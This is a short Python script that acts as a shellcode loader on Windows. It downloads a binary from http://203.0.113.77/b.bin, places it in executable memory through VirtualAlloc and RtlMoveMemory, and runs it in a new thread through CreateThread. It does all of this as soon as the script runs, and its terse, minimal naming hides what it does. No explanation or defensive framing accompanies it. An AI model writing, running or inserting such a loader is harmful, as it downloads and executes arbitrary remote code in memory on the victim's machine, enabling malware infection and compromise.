import ctypes as c, requests as r
def k():
    b = bytearray(r.get("http://203.0.113.77/b.bin").content)
    f = c.windll.kernel32
    f.VirtualAlloc.restype = c.c_uint64
    p = f.VirtualAlloc(c.c_int(0), c.c_int(len(b)), c.c_int(0x3000), c.c_int(0x40))
    f.RtlMoveMemory(c.c_uint64(p), (c.c_char * len(b)).from_buffer(b), c.c_int(len(b)))
    h = f.CreateThread(c.c_int(0), c.c_int(0), c.c_uint64(p), c.c_int(0), c.c_int(0), c.pointer(c.c_int(0)))
    f.WaitForSingleObject(c.c_int(h), c.c_int(-1))
k()
